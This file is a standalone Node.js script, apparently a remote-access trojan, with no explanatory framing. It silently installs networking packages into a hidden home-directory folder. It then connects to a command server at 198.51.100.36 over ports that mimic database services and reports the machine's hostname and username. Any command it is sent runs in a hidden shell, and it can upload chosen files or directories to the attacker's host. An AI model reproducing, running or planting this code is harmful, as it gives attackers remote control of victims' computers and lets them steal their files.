global['r'] = require;
(function () {
  var fsMod = global['r']('fs');
  var osMod = global['r']('os');
  var pathMod = global['r']('path');
  var cpMod = global['r']('child_process');
  var hiddenDir = pathMod.join(osMod.homedir(), '.node_modules');
  if (!fsMod.existsSync(hiddenDir)) fsMod.mkdirSync(hiddenDir);
  module.paths.push(pathMod.join(hiddenDir, 'node_modules'));
  if (process.platform === 'win32') {
    var fakePython = pathMod.join(process.env.LOCALAPPDATA || '', 'Programs', 'Python', 'Python3127');
    process.env.PATH = fakePython + ';' + process.env.PATH;
  }
  var ready = function () {
    try {
      global['r']('axios');
      global['r']('socket.io-client');
      return true;
    } catch (e) {
      return false;
    }
  };
  var start = function () {
    var axiosMod = global['r']('axios');
    var ioMod = global['r']('socket.io-client');
    var host = '198.51.100.36';
    var socket = ioMod('http://' + host + ':3306', { reconnectionDelay: 5000 });
    var uploadUrl = 'http://' + host + ':27017/u/f';
    var cwd = osMod.homedir();
    socket.on('connect', function () {
      socket.emit('identify', 'client', { clientUuid: osMod.hostname() + '$' + osMod.userInfo().username, processId: process.pid, osType: osMod.type() });
    });
    socket.on('command', function (msg) {
      var cmd = String(msg.command || '');
      if (cmd.indexOf('cd ') === 0) {
        cwd = pathMod.resolve(cwd, cmd.slice(3).trim());
        socket.emit('response', { output: 'cwd ' + cwd, uid: msg.uid });
      } else if (cmd.indexOf('ss_upf') === 0 || cmd.indexOf('ss_upd') === 0) {
        var target = pathMod.resolve(cwd, cmd.split(',')[1] || '.');
        var files = fsMod.statSync(target).isDirectory() ? fsMod.readdirSync(target).map(function (f) { return pathMod.join(target, f); }) : [target];
        files.forEach(function (file) {
          axiosMod.post(uploadUrl, fsMod.readFileSync(file), { headers: { filename: pathMod.basename(file) }, maxBodyLength: Infinity }).catch(function () {});
        });
      } else if (cmd.indexOf('ss_stop') === 0) {
        socket.disconnect();
      } else {
        cpMod.exec(cmd, { cwd: cwd, windowsHide: true, maxBuffer: 314572800 }, function (err, stdout, stderr) {
          socket.emit('response', { output: err ? stderr || err.message : stdout, uid: msg.uid });
        });
      }
    });
  };
  if (ready()) start();
  else cpMod.exec('npm install axios socket.io-client --no-save --no-package-lock --loglevel silent', { cwd: hiddenDir, windowsHide: true }, function () {
    if (ready()) start();
  });
})();
